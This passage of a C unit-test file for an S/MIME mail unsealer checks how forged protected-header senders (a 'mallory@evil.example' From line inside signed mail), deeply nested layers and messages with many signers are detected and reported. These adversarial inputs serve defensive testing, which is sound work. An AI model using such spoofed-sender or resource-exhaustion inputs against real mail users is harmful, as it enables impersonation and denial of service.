  g_autofree char *by_nobody = sealing_encrypt (&sealing, "bob", mallory);
  g_autofree char *by_stranger = sealing_sign (&sealing, "stranger", mallory);
  g_autofree char *around = sealing_sign (&sealing, "mallory", by_nobody);
  g_auto(Opened) told = sealing_open (&sealing, FROM_ALICE, by_nobody);

  assert_header (by_alice, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
  assert_header (by_mallory, "alice@example.org", "inside", SIGNET_SIGNATURE_MISMATCH);
  assert_header (by_nobody, "alice@example.org", "inside", SIGNET_SIGNATURE_NONE);
  assert_header (by_stranger, "alice@example.org", "inside", SIGNET_SIGNATURE_UNKNOWN);
  assert_header (around, "alice@example.org", "inside", SIGNET_SIGNATURE_MISMATCH);
  g_assert_nonnull (strstr (signet_verdict_get_sentence (told.verdict),
                            "Inside, mallory@evil.example is named as the sender."));
}

/* All are told who have an address; and what is inside makes no single sender of several outside. */
static void
test_several_protected_senders (void)
{
  static const struct { const char *from, *told; } cases[] =
  {
    { "From: alice@example.org, m@evil.example\r\n", "Inside, alice@example.org, m@evil.example is named" },
    { "From: alice@example.org\r\nFrom: m@evil.example\r\n", "Inside, alice@example.org, m@evil.example is" },
    { "From: Friends: alice@example.org;\r\n", "Inside, alice@example.org is named as the sender." },
    { "From: Alice\r\n", NULL },
  };
  g_autofree char *alone = protect ("hp=clear", "From: alice@example.org\r\n");
  g_autofree char *by_alice = sealing_sign (&sealing, "alice", alone);
  g_auto(Opened) several = sealing_open (&sealing, "From: alice@example.org\r\nFrom: m@evil.example\r\n",
                                         by_alice);

  assert_opened (&several, SIGNET_SIGNATURE_MISMATCH, SIGNET_ENCRYPTION_NONE, "Hello\n");
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *entity = protect ("hp=clear", cases[i].from);
      g_autofree char *clear = sealing_sign (&sealing, "alice", entity);
      g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, clear);

      assert_opened (&opened, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
      g_assert_nonnull (strstr (signet_verdict_get_sentence (opened.verdict),
                                cases[i].told != NULL ? cases[i].told : "unchanged."));
      g_assert_null (strchr (signet_verdict_get_sentence (opened.verdict), '?'));
    }
}

/* The header of a mail that is passed on stays with that; one that wraps itself is taken. */
static void
test_message_inside (void)
{
  static const char forwarded[] = "Content-Type: message/rfc822\r\n\r\nFrom: mallory@evil.example\r\n"
                                  "Subject: inside\r\nMessage-ID: <one@example.org>\r\n\r\nHello\r\n";
  static const char wrapped[] = "Content-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\n"
                                "Subject: inside\r\nMessage-ID: <one@example.org>\r\n\r\nHello\r\n";
  g_autofree char *passed_on = sealing_sign (&sealing, "alice", forwarded);
  g_autofree char *whole = sealing_sign (&sealing, "alice", wrapped);

  assert_header (passed_on, "alice@example.org", "outside", SIGNET_SIGNATURE_VALID);
  assert_header (whole, "alice@example.org", "inside", SIGNET_SIGNATURE_VALID);
}

/* What is not opened says why, and is not called empty or unprotected. */
static void
test_not_opened (void)
{
  static const struct { const char *mail, *sentence; } closed[] =
  {
    { "MFcGCyqGSIb3DQEJEAEJoEgwRgIBADANBgsqhkiG9w0BCRADCDAyBgkqhkiG9w0BBwGgJQQjeJxz\r\n"
      "zs8rSc0r0Q2pLEi1UihJrSjRL8hJzMzj5eLlykjNyck=\r\n", "The compressed message is damaged." },
    { "MFcGCyqGSIb3DQEJEAEJoEgwRgIBADAFBgMqAwQwOgYJKoZIhvcNAQcBoC0EK3icc87PK0nNK9EN\r\n"
      "qSxItVIoSa0o0S/ISczM4+Xi5cpIzcnJ5+UCAOBMC2Y=\r\n",
      "This message is compressed with 1.2.3.4, which Signet cannot open." },
    { "MHUGCSqGSIb3DQEHBaBoMGYCAQAwCwYJYIZIAWUDBAIBMDIGCSqGSIb3DQEHAaAlBCNDb250ZW50\r\n"
      "LVR5cGU6IHRleHQvcGxhaW4NCg0KaGVsbG8NCgQgWBhEq+//8XdXTTcUayVykfFriFR5oMtZtx6r\r\n"
      "HWJTiUk=\r\n", "This message is of a kind that Signet cannot open." },
  };

  for (guint i = 0; i < G_N_ELEMENTS (closed); i++)
    {
      g_autofree char *entity
        = g_strconcat ("Content-Type: application/pkcs7-mime; name=smime.p7m\r\n"
                       "Content-Transfer-Encoding: base64\r\n\r\n", closed[i].mail, NULL);
      g_autofree char *mixed = g_strconcat ("Content-Type: multipart/mixed; boundary=X\r\n\r\n--X\r\n\r\nBeside\r\n"
                                            "--X\r\n", entity, "--X--\r\n", NULL);
      g_auto(Opened) whole = sealing_open (&sealing, FROM_ALICE, entity);
      g_auto(Opened) part = sealing_open (&sealing, FROM_ALICE, mixed);

      assert_opened (&whole, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_CANNOT_OPEN, "");
      g_assert_cmpstr (signet_verdict_get_sentence (whole.verdict), ==, closed[i].sentence);
      g_assert_cmpstr (whole.error->message, ==, closed[i].sentence);
      assert_opened (&part, SIGNET_SIGNATURE_NONE, SIGNET_ENCRYPTION_NONE, "Beside\n");
      g_assert_no_error (part.error);
    }
}

/* The innermost one that many layers are around. */
static void
open_deep (Opened     *opened,
           const char *innermost,
           guint       layers)
{
  g_autofree char *entity = g_strdup (innermost);

  for (guint i = 0; i < layers; i++)
    {
      g_autofree char *outer = sealing_opaque (&sealing, "alice", entity);

      g_free (g_steal_pointer (&entity));
      entity = g_steal_pointer (&outer);
    }
  *opened = sealing_open (&sealing, FROM_ALICE, entity);
}

static void
test_deep (void)
{
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *encrypted = sealing_encrypt (&sealing, "bob", text);
  g_auto(Opened) is_signed = { 0 };
  g_auto(Opened) closed = { 0 };

  open_deep (&is_signed, text, 14);
  g_assert_cmpint (signet_verdict_get_signature (is_signed.verdict), ==, SIGNET_SIGNATURE_UNKNOWN);
  open_deep (&closed, encrypted, 12);
  g_assert_cmpint (signet_verdict_get_encryption (closed.verdict), ==, SIGNET_ENCRYPTION_CANNOT_OPEN);
  g_assert_nonnull (strstr (signet_verdict_get_sentence (closed.verdict), "too many layers"));
}

/* What may be tried for one mail is shared by all that is signed in it: here 32 keys for each part, half of them
 * of who vouches. */
static void
test_many (void)
{
  const guint n = SIGNET_VERIFIER_CHECKS / 32;
  g_autofree char *text = sealing_text ("Hello");
  g_autoptr(GString) options = g_string_new ("-sign");
  g_autoptr(GString) mixed = g_string_new ("Content-Type: multipart/mixed; boundary=Y\r\n\r\n");
  g_autofree char *part = NULL;

  for (guint i = 0; i < 16; i++)
    {
      g_autofree char *name = g_strdup_printf ("one-of-%u", i);

      signers_make (&sealing.openssl, name, "ec -pkeyopt ec_paramgen_curve:P-256", NULL, "root", "sha256");
      g_string_append_printf (options, " -signer %s.crt -inkey %s.key", name, name);
    }
  part = sealing_cms (&sealing, options->str, text);
  for (guint i = 0; i < n + 2; i++)
    g_string_append_printf (mixed, "--Y\r\n%s\r\n", part);
  g_string_append (mixed, "--Y--\r\n");

  g_auto(Opened) opened = sealing_open (&sealing, FROM_ALICE, mixed->str);
  g_assert_cmpuint (opened.frames->len, ==, n + 2);
  for (guint i = 0; i < n + 2; i++)
    g_assert_cmpint (signet_verdict_get_signature (opened.frames->pdata[i]), ==,
                     i < n ? SIGNET_SIGNATURE_VALID : SIGNET_SIGNATURE_UNKNOWN);
}

static gint64
find_cb (const char *key,
         gpointer    user_data)
{
  gint64 *time = g_hash_table_lookup (user_data, key);

  return time != NULL ? *time : 0;
}

static void
note_cb (const char *key,
         gint64      time,
         gpointer    user_data)
{
  g_hash_table_insert (user_data, g_strdup (key), g_memdup2 (&time, sizeof time));
}

/* Our own record counts, and not what the signer says of the time. */
static void
test_memory (void)
{
  g_autoptr(GHashTable) times = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
  SignetUnsealerTools tools = sealing_tools (&sealing);
  const gint64 later = tools.now + 31 * 24 * 60 * 60;
  g_autofree char *text = sealing_text ("Hello");
  g_autofree char *clear = sealing_sign (&sealing, "alice", text);

  tools.memory = (SignetUnsealerMemory) { find_cb, note_cb, times };
  tools.now = later;
  g_auto(Opened) unseen = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  assert_opened (&unseen, SIGNET_SIGNATURE_EXPIRED, SIGNET_ENCRYPTION_NONE, "Hello\n");
  g_assert_cmpuint (g_hash_table_size (times), ==, 0);

  tools.now -= 31 * 24 * 60 * 60;
  tools.arrived = later;
  g_auto(Opened) set_back = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  assert_opened (&set_back, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
  g_assert_cmpuint (g_hash_table_size (times), ==, 0);

  tools.arrived = 0;
  g_auto(Opened) first = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  assert_opened (&first, SIGNET_SIGNATURE_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
  g_assert_cmpuint (g_hash_table_size (times), ==, 1);

  tools.now = later;
  g_auto(Opened) again = sealing_open_with (&sealing, &tools, FROM_ALICE, clear);
  assert_opened (&again, SIGNET_SIGNATURE_WAS_VALID, SIGNET_ENCRYPTION_NONE, "Hello\n");
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  if (!test_openssl_is_there ())
    return 77;
  sealing_set_up (&sealing);

  g_test_add_func ("/unsealer/signed", test_signed);
  g_test_add_func ("/unsealer/encrypted", test_encrypted);
  g_test_add_func ("/unsealer/weakly-encrypted", test_weakly_encrypted);
  g_test_add_func ("/unsealer/nested", test_nested);
  g_test_add_func ("/unsealer/closed", test_closed);
  g_test_add_func ("/unsealer/no-keyring", test_no_keyring);
  g_test_add_func ("/unsealer/beginning", test_beginning);
  g_test_add_func ("/unsealer/cancelled", test_cancelled);
  g_test_add_func ("/unsealer/cancelled-signature", test_cancelled_signature);
  g_test_add_func ("/unsealer/killed-agent", test_killed_agent);
  g_test_add_func ("/unsealer/partly", test_partly);
  g_test_add_func ("/unsealer/oracles", test_oracles);
  g_test_add_func ("/unsealer/senders", test_senders);
  g_test_add_func ("/unsealer/long-sender", test_long_sender);
  g_test_add_func ("/unsealer/broken", test_broken);
  g_test_add_func ("/unsealer/added-part", test_added_part);
  g_test_add_func ("/unsealer/shown-signature", test_shown_signature);
  g_test_add_func ("/unsealer/certificates-only", test_certificates_only);
  g_test_add_func ("/unsealer/signed-file", test_signed_file);
  g_test_add_func ("/unsealer/encoded-file", test_encoded_file);
  g_test_add_func ("/unsealer/signature-file", test_signature_file);
  g_test_add_func ("/unsealer/damaged", test_damaged);
  g_test_add_func ("/unsealer/protected-header", test_protected_header);
  g_test_add_func ("/unsealer/protected-sender", test_protected_sender);
  g_test_add_func ("/unsealer/several-protected-senders", test_several_protected_senders);
  g_test_add_func ("/unsealer/message-inside", test_message_inside);
  g_test_add_func ("/unsealer/not-opened", test_not_opened);
  g_test_add_func ("/unsealer/deep", test_deep);
  g_test_add_func ("/unsealer/many", test_many);
  g_test_add_func ("/unsealer/memory", test_memory);

  int status = g_test_run ();
  sealing_tear_down (&sealing);
  return status;
}
